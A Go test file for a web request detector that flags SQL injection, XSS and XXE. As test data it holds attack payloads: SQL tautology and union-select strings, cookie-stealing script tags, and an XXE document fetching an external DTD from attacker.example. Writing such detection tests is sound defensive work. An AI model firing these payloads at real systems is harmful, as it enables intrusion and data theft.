package shield

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/guardrail-sh/guardrail/pkg/domain"
)

func newDetector(t *testing.T, cfg Config) *Detector {
	t.Helper()
	d, err := New(cfg)
	if err != nil {
		t.Fatalf("failed to build detector: %v", err)
	}
	return d
}

func newRequest(rawURL string) *domain.Request {
	return &domain.Request{
		Method:  http.MethodGet,
		URL:     rawURL,
		Headers: http.Header{},
	}
}

func TestDetector_DetectsTautologyInQuery(t *testing.T) {
	d := newDetector(t, Config{})

	req := newRequest("https://example.com/login?user=admin&pass=%27%20OR%201%3D1")
	res := d.Inspect(req)

	if !res.Detected {
		t.Fatalf("expected detection")
	}
	if res.Category != CategorySQLInjection {
		t.Errorf("category = %s, want %s", res.Category, CategorySQLInjection)
	}
	if res.Pattern != "sql.tautology" {
		t.Errorf("pattern = %s, want sql.tautology", res.Pattern)
	}
	if res.Location != LocationQuery {
		t.Errorf("location = %s, want %s", res.Location, LocationQuery)
	}
	if res.Excerpt == "" {
		t.Errorf("expected a non-empty excerpt")
	}
}

func TestDetector_CleanRequestPasses(t *testing.T) {
	d := newDetector(t, Config{})

	req := newRequest("https://example.com/api/items?page=2&sort=name")
	req.Headers.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
	req.Headers.Set("Accept", "application/json")

	if res := d.Inspect(req); res.Detected {
		t.Fatalf("unexpected detection: %+v", res)
	}
}

func TestDetector_WeakSignaturesNeverDecideAlone(t *testing.T) {
	d := newDetector(t, Config{})

	// Bare SQL keywords are weak signatures: common English, common REST
	// paths. In single-pattern mode they are skipped entirely.
	req := newRequest("https://example.com/api/select")
	req.Body = []byte("please select a plan and update your billing details")

	if res := d.Inspect(req); res.Detected {
		t.Fatalf("weak signature produced a verdict: %+v", res)
	}
}

func TestDetector_AnomalyScoringAccumulates(t *testing.T) {
	d := newDetector(t, Config{AnomalyScoring: true})

	// Tautology (4) plus inline comment (2) crosses the default threshold.
	req := newRequest("https://example.com/login?u=%27%20OR%201%3D1%20--")
	res := d.Inspect(req)

	if !res.Detected {
		t.Fatalf("expected detection")
	}
	if res.Category != CategorySQLInjection {
		t.Errorf("category = %s, want %s", res.Category, CategorySQLInjection)
	}
	if res.Score < 5 {
		t.Errorf("score = %d, want >= threshold 5", res.Score)
	}
	if res.Pattern != "sql.tautology" {
		t.Errorf("pattern = %s, want first matched sql.tautology", res.Pattern)
	}
}

func TestDetector_AnomalyBelowThresholdPasses(t *testing.T) {
	d := newDetector(t, Config{AnomalyScoring: true})

	req := newRequest("https://example.com/plans")
	req.Body = []byte("please select a plan")

	if res := d.Inspect(req); res.Detected {
		t.Fatalf("weak keyword alone crossed the threshold: %+v", res)
	}
}

func TestDetector_AnomalySuppressesWeakXSSInHeaders(t *testing.T) {
	d := newDetector(t, Config{AnomalyScoring: true})
	payload := "<script>document.cookie</script>"

	// In a header only the strong script-tag signature scores (4 < 5): the
	// weak DOM-sink signature is suppressed where markup is never rendered.
	hdr := newRequest("https://example.com/p")
	hdr.Headers.Set("X-Trace", payload)
	if res := d.Inspect(hdr); res.Detected {
		t.Fatalf("header-only weak signal crossed the threshold: %+v", res)
	}

	// The same payload in the body scores both signatures (4 + 2 >= 5).
	body := newRequest("https://example.com/p")
	body.Body = []byte(payload)
	res := d.Inspect(body)
	if !res.Detected {
		t.Fatalf("expected body detection")
	}
	if res.Category != CategoryXSS {
		t.Errorf("category = %s, want %s", res.Category, CategoryXSS)
	}
}

func TestDetector_SkipsSensitiveHeaders(t *testing.T) {
	d := newDetector(t, Config{})
	payload := "<script>steal()</script>"

	req := newRequest("https://example.com/p")
	req.Headers.Set("Authorization", "Bearer "+payload)
	req.Headers.Set("Cookie", "session="+payload)
	if res := d.Inspect(req); res.Detected {
		t.Fatalf("sensitive header was scanned: %+v", res)
	}

	req = newRequest("https://example.com/p")
	req.Headers.Set("X-Custom", payload)
	res := d.Inspect(req)
	if !res.Detected {
		t.Fatalf("expected detection in custom header")
	}
	if res.Location != "header:x-custom" {
		t.Errorf("location = %s, want header:x-custom", res.Location)
	}
}

func TestDetector_CustomSkipHeaders(t *testing.T) {
	d := newDetector(t, Config{SkipHeaders: []string{"x-internal"}})

	req := newRequest("https://example.com/p")
	req.Headers.Set("X-Internal", "<script>x</script>")
	if res := d.Inspect(req); res.Detected {
		t.Fatalf("configured skip header was scanned: %+v", res)
	}

	// Replacing the set means authorization is scanned again.
	req = newRequest("https://example.com/p")
	req.Headers.Set("Authorization", "<script>x</script>")
	if res := d.Inspect(req); !res.Detected {
		t.Fatalf("expected detection once authorization left the skip set")
	}
}

func TestDetector_BodyMatchAcrossChunks(t *testing.T) {
	d := newDetector(t, Config{ChunkSize: 16})

	// The signature straddles the 16-byte chunk boundary; the overlap tail
	// carries enough of the first chunk for the window to still match.
	req := newRequest("https://example.com/submit")
	req.Method = http.MethodPost
	req.Body = []byte("aaaaaaaaaaunion select password from users")

	res := d.Inspect(req)
	if !res.Detected {
		t.Fatalf("expected detection across chunk boundary")
	}
	if res.Pattern != "sql.union-select" {
		t.Errorf("pattern = %s, want sql.union-select", res.Pattern)
	}
	if res.Location != LocationBody {
		t.Errorf("location = %s, want %s", res.Location, LocationBody)
	}
}

func TestDetector_XXEInBody(t *testing.T) {
	d := newDetector(t, Config{})

	req := newRequest("https://example.com/import")
	req.Method = http.MethodPost
	req.Body = []byte(`<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://attacker.example/x.dtd"><data/>`)

	res := d.Inspect(req)
	if !res.Detected {
		t.Fatalf("expected detection")
	}
	if res.Category != CategoryXXE {
		t.Errorf("category = %s, want %s", res.Category, CategoryXXE)
	}
}

func TestDetector_CategoryRestriction(t *testing.T) {
	d := newDetector(t, Config{Categories: []Category{CategoryXSS}})

	// SQL payloads pass a detector restricted to XSS.
	req := newRequest("https://example.com/q?id=%27%20OR%201%3D1")
	if res := d.Inspect(req); res.Detected {
		t.Fatalf("out-of-scope category detected: %+v", res)
	}

	req = newRequest("https://example.com/q?msg=%3Cscript%3Ehi%3C/script%3E")
	if res := d.Inspect(req); !res.Detected {
		t.Fatalf("expected in-scope detection")
	}
}

func TestDetector_EndpointAllowDowngrades(t *testing.T) {
	d := newDetector(t, Config{
		EndpointAllow: map[string][]string{
			"/search": {`(?i)union(\s|\+|%20)+select`},
		},
	})
	rawURL := "https://example.com/search?q=union%20select%20docs"

	if res := d.Inspect(newRequest(rawURL)); res.Detected {
		t.Fatalf("allow-listed match on its endpoint still detected: %+v", res)
	}

	other := "https://example.com/export?q=union%20select%20docs"
	if res := d.Inspect(newRequest(other)); !res.Detected {
		t.Fatalf("expected detection away from the allow-listed endpoint")
	}
}

func TestDetector_CustomPattern(t *testing.T) {
	d := newDetector(t, Config{
		Patterns: []Pattern{
			{Name: "custom.debug-token", Expr: `(?i)x-internal-debug`, Category: Category("custom")},
		},
	})

	req := newRequest("https://example.com/p")
	req.Headers.Set("X-Flags", "x-internal-debug=1")

	res := d.Inspect(req)
	if !res.Detected {
		t.Fatalf("expected custom pattern detection")
	}
	if res.Pattern != "custom.debug-token" {
		t.Errorf("pattern = %s, want custom.debug-token", res.Pattern)
	}
}

func TestNew_RejectsBadCustomPatterns(t *testing.T) {
	cases := []struct {
		name string
		cfg  Config
	}{
		{
			name: "nested quantifier",
			cfg: Config{Patterns: []Pattern{
				{Name: "bad", Expr: `(a+)+$`, Category: CategorySQLInjection},
			}},
		},
		{
			name: "invalid syntax",
			cfg: Config{Patterns: []Pattern{
				{Name: "bad", Expr: `([`, Category: CategorySQLInjection},
			}},
		},
		{
			name: "missing name",
			cfg: Config{Patterns: []Pattern{
				{Expr: `abc`, Category: CategorySQLInjection},
			}},
		},
		{
			name: "missing category",
			cfg: Config{Patterns: []Pattern{
				{Name: "bad", Expr: `abc`},
			}},
		},
		{
			name: "bad endpoint allow entry",
			cfg: Config{EndpointAllow: map[string][]string{
				"/p": {`(\d+)*`},
			}},
		},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := New(tc.cfg); err == nil {
				t.Fatalf("expected construction error")
			}
		})
	}
}

func TestDetector_ExcerptTruncated(t *testing.T) {
	d := newDetector(t, Config{})

	req := newRequest("https://example.com/x?d=" + strings.Repeat("%41", 40))
	res := d.Inspect(req)

	if !res.Detected {
		t.Fatalf("expected detection")
	}
	if len(res.Excerpt) > 100 {
		t.Errorf("excerpt length = %d, want <= 100", len(res.Excerpt))
	}
}

func TestDetector_ScanBudgetTruncatesInput(t *testing.T) {
	d := newDetector(t, Config{MaxScanBytes: 32})

	req := newRequest("https://example.com/a")
	req.Method = http.MethodPost
	req.Body = append([]byte(strings.Repeat(" ", 40)), []byte("<!ENTITY x SYSTEM>")...)
	if res := d.Inspect(req); res.Detected {
		t.Fatalf("payload beyond the scan budget was detected: %+v", res)
	}

	req.Body = []byte("<!ENTITY x SYSTEM>")
	if res := d.Inspect(req); !res.Detected {
		t.Fatalf("expected detection inside the scan budget")
	}
}

func TestDetector_TinyMatchBudgetStillCompletes(t *testing.T) {
	d := newDetector(t, Config{MatchTimeout: time.Nanosecond})

	req := newRequest("https://example.com/upload")
	req.Method = http.MethodPost
	req.Body = []byte(strings.Repeat("a", 100*1024))

	// Whether each signature finishes or times out, a clean request must
	// come back clean, and the scan must return promptly.
	if res := d.Inspect(req); res.Detected {
		t.Fatalf("unexpected detection: %+v", res)
	}
}

func TestDetector_DeterministicAcrossRuns(t *testing.T) {
	d := newDetector(t, Config{})

	req := newRequest("https://example.com/p")
	req.Headers.Set("X-A", "javascript:void(0)")
	req.Headers.Set("X-B", "<script>alert(1)</script>")

	first := d.Inspect(req)
	if !first.Detected {
		t.Fatalf("expected detection")
	}
	if first.Location != "header:x-a" {
		t.Errorf("location = %s, want header:x-a (sorted header order)", first.Location)
	}
	for i := 0; i < 10; i++ {
		if got := d.Inspect(req); got != first {
			t.Fatalf("run %d diverged: %+v vs %+v", i, got, first)
		}
	}
}

func TestBuiltinPatternsAreWellFormed(t *testing.T) {
	seen := make(map[string]struct{}, len(builtinPatterns))
	for _, p := range builtinPatterns {
		if _, dup := seen[p.Name]; dup {
			t.Errorf("duplicate signature name %s", p.Name)
		}
		seen[p.Name] = struct{}{}

		if _, ok := defaultCategoryWeights[p.Category]; !ok {
			t.Errorf("signature %s has unknown category %s", p.Name, p.Category)
		}
	}

	if _, err := New(Config{}); err != nil {
		t.Fatalf("builtin catalogue failed to compile: %v", err)
	}
}
